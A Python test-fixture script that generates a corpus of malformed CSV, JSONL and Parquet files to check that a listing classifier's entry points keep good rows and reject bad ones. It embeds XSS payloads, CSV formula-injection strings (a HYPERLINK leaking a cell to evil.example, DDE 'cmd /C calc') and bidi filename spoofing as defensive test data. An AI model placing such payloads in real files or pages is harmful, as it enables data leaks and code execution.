"""Write the bad-input corpus in tests/robustness/corpus/: `python -m tests.robustness.make_corpus`.

Every file mixes bad rows between good ones, so a test can check that no good row is lost. Each
`Case` states what the entry points must make of its file: the ids of the good rows (each one must
be scored or queued), the bad rows as (physical line, reason), or the error that refuses the whole
file. For JSONL files it also states, line by line, what the API answers when that line is POSTed
as a body. The output is deterministic (gzip mtime 0, a seeded generator), and
`test_corpus_is_what_the_script_writes` checks that the committed files equal a fresh run.

The huge cases (a 10 MB field, a 1,000,000-character word) are not here: `huge_*` builders make
them in the test's tmp_path, so nothing large is committed.
"""

from __future__ import annotations

import csv
import functools
import gzip
import io
import json
import random
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

CORPUS = Path(__file__).resolve().parent / "corpus"
TEXT_COLS = ("id", "title", "description", "brand", "seller_category")
LISTINGS = (
    ("LWIR thermal imaging core 640x512", "uncooled VOx microbolometer, 12 um pitch", "Acme"),
    ("Cotton crew-neck T-shirt", "pack of 3, machine wash", "Basics"),
    ("GNSS RTK OEM board L1 L2 L5", "centimetre positioning at 20 Hz", "NavCo"),
    ("Garden hose 20 m green", "kink resistant, brass fittings", ""),
    ("Quadcopter frame 5 inch carbon", "for FPV drones, 4 mm arms", ""),
    ("IC FPGA 285 I/O 484FBGA", "industrial temperature range", "Xilinx"),
    ("Stainless steel kitchen scale 5 kg", "battery included", ""),
)


@dataclass(frozen=True)
class Reject:
    """A bad row: its physical line (row number for Parquet) and a part of the reason."""

    line: int
    reason: str


@dataclass(frozen=True)
class ApiLine:
    """What POST /v1/classify answers when one JSONL line is the body: status and a problem."""

    line: int
    status: int
    problem: str = ""


@dataclass
class Case:
    """One corpus file and what every entry point must make of it."""

    file: str
    what: str
    good: list[str] = field(default_factory=list)
    rejects: list[Reject] = field(default_factory=list)
    error: str | None = None
    truncated: bool = False
    label_rejects: list[Reject] = field(default_factory=list)
    api: list[ApiLine] = field(default_factory=list)
    data: bytes = b""

    @property
    def path(self) -> Path:
        return CORPUS / self.file


def listing(n: int, ident: str) -> dict[str, str]:
    """The n-th ordinary listing (cycled) under id `ident`."""
    title, description, brand = LISTINGS[n % len(LISTINGS)]
    return {
        "id": ident,
        "title": title,
        "description": description,
        "brand": brand,
        "seller_category": "",
    }


class CsvFile:
    """Builds a delimited file line by line, remembering where each good and bad row is."""

    def __init__(self, case: Case, columns: tuple[str, ...] = TEXT_COLS, sep: str = ",") -> None:
        self.case, self.columns, self.sep = case, columns, sep
        self.buf = io.BytesIO()
        self._write_row(list(columns))

    @property
    def next_line(self) -> int:
        return self.buf.getvalue().count(b"\n") + 1

    def _write_row(self, values: list[str]) -> None:
        text = io.StringIO()
        csv.writer(text, delimiter=self.sep, lineterminator="\n").writerow(values)
        self.buf.write(text.getvalue().encode("utf-8"))

    def good(self, row: dict[str, str]) -> None:
        self.case.good.append(row["id"])
        self._write_row([row.get(c, "") for c in self.columns])

    def goods(self, start: int, count: int) -> None:
        for n in range(start, start + count):
            self.good(listing(n, f"g{n}"))

    def good_raw(self, ident: str, raw: bytes) -> None:
        self.case.good.append(ident)
        self.buf.write(raw + b"\n")

    def bad(self, raw: bytes, reason: str) -> None:
        self.case.rejects.append(Reject(self.next_line, reason))
        self.buf.write(raw if raw.endswith(b"\n") else raw + b"\n")

    def raw(self, raw: bytes) -> None:
        self.buf.write(raw)

    def done(self) -> Case:
        self.case.data = self.buf.getvalue()
        return self.case


class JsonlFile:
    """Builds a JSONL file line by line; each line also says what the API answers to it."""

    def __init__(self, case: Case) -> None:
        self.case = case
        self.lines: list[bytes] = []

    def _add(self, raw: bytes, status: int, problem: str) -> int:
        self.lines.append(raw)
        number = len(self.lines)
        self.case.api.append(ApiLine(number, status, problem))
        return number

    def good(self, obj: dict[str, object], api: tuple[int, str] = (200, "")) -> None:
        self.case.good.append(str(obj["id"]))
        self._add(json.dumps(obj, ensure_ascii=False).encode("utf-8"), *api)

    def goods(self, start: int, count: int) -> None:
        for n in range(start, start + count):
            self.good(dict(listing(n, f"g{n}")))

    def bad(self, raw: bytes | str, reason: str, api: tuple[int, str]) -> None:
        data = raw.encode("utf-8") if isinstance(raw, str) else raw
        self.case.rejects.append(Reject(self._add(data, *api), reason))

    def done(self) -> Case:
        self.case.data = b"".join(line + b"\n" for line in self.lines)
        return self.case


def _parquet_bytes(table: object) -> bytes:
    import pyarrow.parquet as pq

    sink = io.BytesIO()
    pq.write_table(table, sink, compression="NONE")
    return sink.getvalue()


# ---------------------------------------------------------------------------------------------
# The cases


def invalid_utf8_csv() -> Case:
    f = CsvFile(Case("invalid_utf8.csv", "bytes that are not UTF-8 inside fields"))
    f.goods(1, 1)
    f.bad(b"b1,Thermal camera \xff\xfe core,housing,,", "undecodable bytes (not UTF-8) in field")
    f.goods(2, 1)
    f.bad(b"b2,GNSS board,price in \xe2\x82 euro,,", "undecodable bytes (not UTF-8) in field")
    f.goods(3, 1)
    f.bad(b"b3,encoded surrogate \xed\xa0\x80 here,x,,", "undecodable bytes (not UTF-8) in field")
    f.bad(b"b4,caf\xe9 grinder (latin-1),burr,,", "undecodable bytes (not UTF-8) in field")
    f.goods(4, 2)
    return f.done()


def invalid_utf8_jsonl() -> Case:
    f = JsonlFile(Case("invalid_utf8.jsonl", "JSON lines with bytes that are not UTF-8"))
    f.goods(1, 1)
    bad_lines = (b'{"id": "b1", "title": "Thermal \xff core"}', b'{"id": "b2", "title": "caf\xe9"}')
    for n, raw in enumerate(bad_lines, start=2):
        at = _first_bad_byte(raw)
        f.bad(raw, f"not UTF-8) at byte {at}", (422, f"invalid UTF-8 at byte {at}"))
        f.goods(n, 1)
    return f.done()


def _first_bad_byte(raw: bytes) -> int:
    try:
        raw.decode("utf-8")
    except UnicodeDecodeError as exc:
        return exc.start
    raise ValueError("valid UTF-8")


def invalid_utf8_parquet() -> Case:
    import pyarrow as pa

    case = Case("invalid_utf8.parquet", "Parquet strings that are not UTF-8 (Arrow does not check)")
    rows = [
        listing(1, "g1"),
        listing(2, "b1"),
        listing(3, "g3"),
        listing(4, "b2"),
        listing(5, "g5"),
    ]
    rows[1]["title"] = "Thermal \udcff core"
    rows[3]["brand"] = "caf\udce9"
    case.good = ["g1", "g3", "g5"]
    case.rejects = [
        Reject(2, "undecodable bytes (not UTF-8) in field 'title'"),
        Reject(4, "undecodable bytes (not UTF-8) in field 'brand'"),
    ]
    columns = {}
    for col in TEXT_COLS:
        binary = pa.array([r[col].encode("utf-8", "surrogateescape") for r in rows], pa.binary())
        columns[col] = pa.Array.from_buffers(pa.string(), len(binary), binary.buffers())
    case.data = _parquet_bytes(pa.table(columns))
    return case


def utf16(name: str, what: str, text: str) -> Case:
    return Case(name, what, error="UTF-16", data=text.encode("utf-16"))


def utf16_csv() -> Case:
    rows = "".join(f"g{n},{LISTINGS[n][0]},,,\n" for n in range(3))
    return utf16(
        "utf16_bom.csv", "a UTF-16 file with a byte-order mark", ",".join(TEXT_COLS) + "\n" + rows
    )


def utf16_jsonl() -> Case:
    rows = "".join(json.dumps(listing(n, f"g{n}")) + "\n" for n in range(3))
    return utf16("utf16_bom.jsonl", "UTF-16 JSON lines with a byte-order mark", rows)


def utf8_bom_csv() -> Case:
    f = CsvFile(Case("utf8_bom.csv", "a UTF-8 byte-order mark before the header (all rows good)"))
    f.goods(1, 3)
    case = f.done()
    case.data = b"\xef\xbb\xbf" + case.data
    return case


def nul_csv() -> Case:
    f = CsvFile(Case("nul_bytes.csv", "NUL bytes inside fields: removed; a row of only NULs"))
    f.goods(1, 1)
    f.good({"id": "g2", "title": "GNSS\x00 RTK module", "description": "dual\x00band"})
    f.bad(b"b1,\x00\x00\x00,,,", "missing text")
    f.goods(3, 1)
    f.good({"id": "g4", "title": "Thermal core\x00", "brand": "\x00Acme"})
    f.goods(5, 1)
    return f.done()


def nul_jsonl() -> Case:
    f = JsonlFile(Case("nul_bytes.jsonl", "\\u0000 escapes (removed) and a raw NUL byte"))
    f.goods(1, 1)
    f.good({"id": "g2", "title": "GNSS\u0000 RTK module", "description": "dual\u0000band"})
    f.bad('{"id": "b1", "title": "\\u0000\\u0000"}', "missing text", (422, "missing text"))
    f.goods(3, 1)
    f.bad(
        b'{"id": "b2", "title": "raw \x00 byte"}',
        "malformed JSON: Invalid control character",
        (422, "JSON decode error"),
    )
    f.goods(4, 1)
    return f.done()


def surrogates_jsonl() -> Case:
    f = JsonlFile(Case("lone_surrogates.jsonl", "JSON \\ud800-style escapes with no partner"))
    f.goods(1, 1)
    # The API removes lone surrogates from text (they never reach the model) but refuses them
    # in an id, which it echoes back; a file row with one is rejected whole.
    f.bad(
        '{"id": "b1", "title": "\\ud800 quadcopter frame"}',
        "lone surrogate) in field 'title'",
        (200, ""),
    )
    f.goods(2, 1)
    f.bad('{"id": "b2\\udfff", "title": "GNSS module"}', "in field 'id'", (422, "lone surrogate"))
    f.good({"id": "g3", "title": "\U0001f681 helicopter drone frame (a valid pair)"})
    f.bad(
        '{"id": "b3", "title": "thermal core", "description": "\\udc80 lens"}',
        "lone surrogate) in field 'description'",
        (200, ""),
    )
    f.bad(
        '{"id": "b4", "title": "FPGA board", "\\ud800": "key"}',
        "lone surrogate) in a field name",
        (422, "unable to parse raw data as a unicode string"),
    )
    f.goods(4, 1)
    return f.done()


def deep_jsonl() -> Case:
    f = JsonlFile(Case("deep_nesting.jsonl", "100,000 levels of '[' and deep objects"))
    f.goods(1, 1)
    f.bad(b"[" * 100_000, "JSON nested too deeply", (422, "nested too deeply"))
    f.goods(2, 1)
    f.bad(
        b'{"id": "b2", "title": ' + b"[" * 5000 + b"]" * 5000 + b"}",
        "JSON nested too deeply",
        (422, "nested too deeply"),
    )
    deep = "1"
    for _ in range(70):
        deep = '{"a": ' + deep + "}"
    f.bad(
        '{"id": "b3", "title": "kitchen scale", "attributes": ' + deep + "}",
        "JSON nested too deeply",
        (422, "attributes"),
    )
    f.goods(3, 2)
    return f.done()


def malformed_jsonl() -> Case:
    f = JsonlFile(Case("malformed.jsonl", "lines that are not one JSON object"))
    f.goods(1, 1)
    f.bad("not json at all", "malformed JSON", (422, "JSON decode error"))
    f.bad('{"id": "b2", "title": "cut off', "malformed JSON", (422, "JSON decode error"))
    f.goods(2, 1)
    f.bad('["a", "list"]', "expected a JSON object, got list", (422, "valid dictionary"))
    f.bad(
        '{"id": 1' + "0" * 5000 + ', "title": "GNSS module"}',
        "malformed JSON: Exceeds the limit (4300 digits)",
        (422, "Exceeds the limit (4300 digits)"),
    )
    f.bad('{"id": "b5", "title": NaN}', "text column 'title' is not a string", (422, "string"))
    f.goods(3, 1)
    return f.done()


def unbalanced_csv() -> Case:
    f = CsvFile(Case("unbalanced_quotes.csv", "quotes opened and never closed, between good rows"))
    f.goods(1, 1)
    f.bad(b'b1,"Thermal core 640x512, no closing quote,housing,,', "unbalanced quote")
    f.goods(2, 2)
    f.good(listing(4, "g4") | {"title": "Drone frame, 5 inch", "description": "line one\nline two"})
    f.good_raw("g5", b'g5,13" monitor arm,desk mount,,')  # a bare inch mark is no quote
    f.bad(b'b2,Kitchen scale,"open until the end of the file,,', "unbalanced quote")
    f.goods(6, 2)
    return f.done()


def ragged_csv(sep: str = ",") -> Case:
    ext = "csv" if sep == "," else "tsv"
    f = CsvFile(Case(f"ragged_rows.{ext}", "rows with too few and too many columns"), sep=sep)
    s = sep.encode()
    f.goods(1, 1)
    f.bad(b"b1" + s + b"Too few columns", "wrong column count: 2 fields, header has 5")
    f.goods(2, 1)
    f.bad(s.join([b"b2", b"Too", b"many", b"columns", b"in", b"this", b"row"]), "7 fields")
    f.raw(b"\n")  # a blank line is no row at all
    f.goods(3, 1)
    f.bad(b"b3", "wrong column count: 1 fields, header has 5")
    f.goods(4, 1)
    case = f.done()
    case.data = case.data.rstrip(b"\n")  # the last row has no newline
    return case


def header_only_csv() -> Case:
    return CsvFile(Case("header_only.csv", "a header and no rows")).done()


def empty(name: str, error: str | None) -> Case:
    return Case(name, "an empty (0-byte) file", error=error)


def truncated_gz(kind: str) -> Case:
    """Good and bad rows, then a long incompressible row; the gzip is cut inside that row."""
    case = Case(f"truncated.{kind}.gz", "a gzip that ends early", truncated=True)
    rng = random.Random(7)
    tail = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8000))
    if kind == "csv":
        f = CsvFile(case)
        f.goods(1, 1)
        f.bad(b"b1,Too few columns", "wrong column count")
        f.goods(2, 1)
        f.bad(b"b2,bad \xff byte,x,,", "undecodable bytes")
        f.goods(3, 1)
        f.raw(f"t1,lost in the break {tail},,,\n".encode())
        data = f.done().data
    else:
        j = JsonlFile(case)
        j.goods(1, 1)
        j.bad("{not json", "malformed JSON", (422, ""))
        j.goods(2, 1)
        j.bad('{"id": "b2", "title": ""}', "missing text", (422, ""))
        j.goods(3, 1)
        j.lines.append(json.dumps({"id": "t1", "title": f"lost in the break {tail}"}).encode())
        data = j.done().data
        case.api = []
    packed = gzip.compress(data, mtime=0)
    case.data = packed[: len(packed) * 2 // 3]
    return case


def parquet_wrong_types() -> list[Case]:
    import pyarrow as pa

    ids = pa.array(["w1", "w2", "w3"])
    text = pa.array([LISTINGS[n][0] for n in range(3)])
    tables = {
        "wrong_type_int.parquet": (
            {"id": ids, "title": pa.array([1, 2, 3], pa.int64()), "description": text},
            "text column 'title' has type int64, expected string",
        ),
        "wrong_type_struct.parquet": (
            {"id": ids, "title": text, "description": pa.array([{"a": 1}, {"a": 2}, None])},
            "text column 'description' has type struct",
        ),
        "wrong_type_list.parquet": (
            {"id": ids, "title": text, "brand": pa.array([["Acme"], [], None])},
            "text column 'brand' has type list",
        ),
    }
    return [
        Case(
            name,
            "a Parquet text column that is not text",
            error=error,
            data=_parquet_bytes(pa.table(cols)),
        )
        for name, (cols, error) in tables.items()
    ]


def parquet_mixed() -> Case:
    import pyarrow as pa

    rows: list[dict[str, object]] = []
    case = Case(
        "mixed_types.parquet", "string text columns with empty rows; int, struct, list extras"
    )

    def add(row: dict[str, object], reject: str | None = None) -> None:
        rows.append(row)
        if reject:
            case.rejects.append(Reject(len(rows), reject))
        else:
            case.good.append(str(row["id"]))

    for n in range(1, 3):
        add(
            listing(n, f"g{n}") | {"price": n, "specs": {"mm": n * 10, "unit": "mm"}, "tags": ["a"]}
        )
    add(
        {"id": "b1", "title": None, "description": None, "price": -1, "specs": None, "tags": []},
        "missing text",
    )
    add(listing(3, "g3") | {"title": "GNSS\x00 module", "price": None, "specs": None, "tags": None})
    add(
        {"id": "b2", "title": "", "description": "   ", "price": 0, "specs": None, "tags": None},
        "missing text",
    )
    add(listing(4, "g4") | {"price": 2**40, "specs": {"mm": 0, "unit": ""}, "tags": ["x", "y"]})
    table = pa.Table.from_pylist(rows)
    case.data = _parquet_bytes(table)
    return case


def header_only_parquet() -> Case:
    import pyarrow as pa

    schema = pa.schema([(c, pa.string()) for c in TEXT_COLS])
    return Case(
        "header_only.parquet",
        "a Parquet schema and no rows",
        data=_parquet_bytes(schema.empty_table()),
    )


HTML_ROWS = (
    {
        "id": "h1",
        "title": "<script>alert('xss')</script> FPV drone frame",
        "description": '<img src=x onerror="alert(1)"> carbon arms',
    },
    {
        "id": "h2",
        "title": '"><svg onload=alert(2)> GNSS module',
        "brand": "</textarea><script>alert(3)</script>",
    },
    {
        "id": "h3",
        "title": '<a href="javascript:alert(4)">thermal core</a> 640x512',
        "description": "<!-- comment --><style>body{display:none}</style> uncooled",
    },
    {"id": "h4", "title": "&lt;script&gt;alert(5)&lt;/script&gt; kitchen scale 5 kg"},
    {
        "id": "<script>h5</script>",
        "title": "IC FPGA <b>484FBGA</b>",
        "seller_category": '<iframe srcdoc="<script>alert(6)</script>"></iframe>',
    },
)


def html_csv() -> Case:
    f = CsvFile(Case("html_script.csv", "HTML and <script> payloads in every text field"))
    for n, row in enumerate(HTML_ROWS, start=1):
        f.good({c: "" for c in TEXT_COLS} | row)
        if n % 2:
            f.goods(n, 1)
    return f.done()


FORMULA_ROWS = (
    {
        "id": "f1",
        "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for specs")',
        "price": "9.99",
    },
    {"id": "f2", "title": "+cmd|' /C calc'!A0 thermal core", "price": "-5"},
    {"id": "f3", "title": "-1+1 GNSS module", "description": "-2+3"},
    {"id": "f4", "title": "@SUM(1+1)*cmd|' /C calc'!A0 drone", "brand": "=1+1"},
    {"id": "f5", "title": "\t=1+1 tab led strip", "description": "a = b, not a formula"},
    {"id": "f6", "title": "\r=1+1 carriage return led"},
    {"id": "@f7", "title": "Quadcopter frame", "description": "id starts with @"},
)


def formula_csv() -> Case:
    cols = (*TEXT_COLS, "price")
    f = CsvFile(Case("formula_payloads.csv", "CSV formula payloads (=, +, -, @, tab, CR)"), cols)
    for n, row in enumerate(FORMULA_ROWS, start=1):
        if "\r" in row["title"]:  # csv quotes a field with CR only when CR ends its lines
            f.good_raw(row["id"], b'%s,"%s",,,,' % (row["id"].encode(), row["title"].encode()))
        else:
            f.good({c: "" for c in cols} | row)
        if n % 3 == 0:
            f.good(listing(n, f"g{n}") | {"price": "1"})
    f.bad(b"b1,bare \r=1+1 carriage return,,,,", "a carriage return inside an unquoted field")
    f.goods(8, 1)
    return f.done()


def bidi_csv() -> Case:
    f = CsvFile(Case("bidi_zero_width.csv", "right-to-left override and zero-width characters"))
    f.goods(1, 1)
    for row in (
        {"id": "z1", "title": "\u202egnp.exe thermal camera core", "brand": "\u202eemcA"},
        {"id": "z2", "title": "dr\u200bone fr\u200dame carbon 5\u2060inch"},
        {"id": "z3", "title": "\u2066GNSS\u2069 RTK module \u200f", "description": "\u061c\u200e"},
        {"id": "z4", "title": "\ufeffFPGA board", "description": "soft\u00adhyphen"},
        # Only invisible characters: non-empty to the reader, empty to the model.
        {"id": "z5", "title": "\u200b\u200c\u200d\u2060\u202e"},
    ):
        f.good({c: "" for c in TEXT_COLS} | row)
    f.goods(2, 1)
    return f.done()


EMOJI_ROWS = (
    {"id": "e1", "title": "\U0001f681 Drone with 4K camera \U0001f4f7", "brand": "\U0001f981 Lion"},
    {
        "id": "e2",
        "title": "\U0001f469\u200d\U0001f52c lab kit \U0001f9ea",
        "description": "\u2697\ufe0f",
    },
    {"id": "e3", "title": "\U0001f1fa\U0001f1f8\U0001f1e9\U0001f1ea GNSS module flags"},
    {"id": "e4", "title": "\U0001f44d\U0001f3fd thermal core", "description": "\U0001f525" * 300},
    {"id": "e5", "title": "\U0001f600"},
)


def emoji_csv() -> Case:
    f = CsvFile(Case("emoji.csv", "emoji: pictographs, ZWJ sequences, flags, skin tones"))
    for n, row in enumerate(EMOJI_ROWS, start=1):
        f.good({c: "" for c in TEXT_COLS} | row)
        if n % 2:
            f.goods(n, 1)
    return f.done()


def emoji_jsonl() -> Case:
    f = JsonlFile(Case("emoji.jsonl", "emoji as raw UTF-8 and as \\ud83d\\ude00 escape pairs"))
    f.goods(1, 1)
    for row in EMOJI_ROWS:
        f.good({c: "" for c in TEXT_COLS} | row)
    f.bad(
        '{"id": "b1", "title": "\\ud83d\\ude00 \\ud83d pair cut in half"}',
        "lone surrogate) in field 'title'",
        (200, ""),
    )
    f.goods(2, 1)
    return f.done()


def labels_csv() -> Case:
    cols = ("id", "title", "description", "labels")
    case = Case("unknown_labels.csv", "a labels column naming labels the taxonomy lacks")
    f = CsvFile(case, cols)
    for ident, labels, unknown in (
        ("l1", "uav", None),
        ("l2", "drones", "unknown label 'drones'"),
        ("l3", "", None),
        ("l4", "uav|not_a_label", "unknown label 'not_a_label'"),
        ("l5", "UAV", "unknown label 'UAV'"),
        ("l6", "sensors_lasers|uav", None),
    ):
        if unknown:
            case.label_rejects.append(Reject(f.next_line, unknown))
        f.good(listing(len(case.good), ident) | {"labels": labels})
    return f.done()


def labels_jsonl() -> Case:
    case = Case("unknown_labels.jsonl", "JSON label lists with unknown names and wrong types")
    f = JsonlFile(case)
    unknown_field = (422, "unknown field")
    for ident, labels, unknown in (
        ("l1", ["uav"], None),
        ("l2", ["drones"], "unknown label 'drones'"),
        ("l3", None, None),
        ("l4", "uav|not_a_label", "unknown label 'not_a_label'"),
        ("l5", ["uav", 5], "labels must be a list of names"),
        ("l6", [], None),
    ):
        if unknown:
            case.label_rejects.append(Reject(len(f.lines) + 1, unknown))
        f.good(listing(len(case.good), ident) | {"labels": labels}, unknown_field)  # type: ignore[arg-type]
    return f.done()


def long_id_csv() -> Case:
    f = CsvFile(Case("long_id.csv", "an id longer than the review store keeps (500 characters)"))
    f.goods(1, 1)
    f.good(listing(2, "L" * 600))
    f.goods(3, 1)
    return f.done()


BUILDERS: tuple[Callable[[], Case | list[Case]], ...] = (
    invalid_utf8_csv,
    invalid_utf8_jsonl,
    invalid_utf8_parquet,
    utf16_csv,
    utf16_jsonl,
    utf8_bom_csv,
    nul_csv,
    nul_jsonl,
    surrogates_jsonl,
    deep_jsonl,
    malformed_jsonl,
    unbalanced_csv,
    ragged_csv,
    lambda: ragged_csv("\t"),
    header_only_csv,
    header_only_parquet,
    lambda: empty("empty.csv", "the file is empty"),
    lambda: empty("empty.jsonl", None),
    lambda: empty("empty.parquet", "not a readable Parquet file"),
    lambda: truncated_gz("csv"),
    lambda: truncated_gz("jsonl"),
    parquet_wrong_types,
    parquet_mixed,
    html_csv,
    formula_csv,
    bidi_csv,
    emoji_csv,
    emoji_jsonl,
    labels_csv,
    labels_jsonl,
    long_id_csv,
)


def build_cases() -> list[Case]:
    """Every case with its file's bytes, in a stable order."""
    cases: list[Case] = []
    for build in BUILDERS:
        made = build()
        cases.extend(made if isinstance(made, list) else [made])
    return cases


@functools.cache
def cases() -> dict[str, Case]:
    """Every case by file name (built once per process)."""
    return {c.file: c for c in build_cases()}


# ---------------------------------------------------------------------------------------------
# Huge cases, written at test time only


def huge_field(path: Path, size: int = 10_000_000) -> Case:
    """Good rows around one row whose description has `size` characters (CSV, JSONL or Parquet)."""
    case = Case(path.name, f"a {size:,}-character field")
    big = listing(2, "big") | {"description": "spec " * (size // 5)}
    rows = [listing(1, "g1"), big, listing(3, "g3")]
    _write_rows(path, rows)
    case.good = ["g1", "g3"]
    # Row 2 of the data; a CSV header makes it physical line 3.
    case.rejects = [Reject(3 if path.suffix == ".csv" else 2, "over the limit")]
    return case


def huge_word(path: Path, length: int = 1_000_000) -> Case:
    """Good rows around one row whose title is a single word of `length` characters."""
    case = Case(path.name, f"a {length:,}-character single word")
    word = ("thermal" * (length // 7 + 1))[:length]
    rows = [listing(1, "g1"), listing(2, "word") | {"title": word}, listing(3, "g3")]
    _write_rows(path, rows)
    case.good = ["g1", "word", "g3"]
    return case


def _write_rows(path: Path, rows: list[dict[str, str]]) -> None:
    if path.suffix == ".parquet":
        import pyarrow as pa

        path.write_bytes(_parquet_bytes(pa.Table.from_pylist(rows)))
    elif path.suffix == ".jsonl":
        path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    else:
        with open(path, "w", newline="", encoding="utf-8") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(TEXT_COLS), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)


def write_corpus(folder: Path = CORPUS) -> list[Path]:
    """Write every case's file into `folder` (replacing what is there); returns the paths."""
    folder.mkdir(parents=True, exist_ok=True)
    for stale in folder.iterdir():
        if stale.is_file():
            stale.unlink()
    paths = []
    for case in build_cases():
        path = folder / case.file
        path.write_bytes(case.data)
        paths.append(path)
    return paths


if __name__ == "__main__":
    for written in write_corpus(Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS):
        print(f"{written.stat().st_size:>8,}  {written.name}")
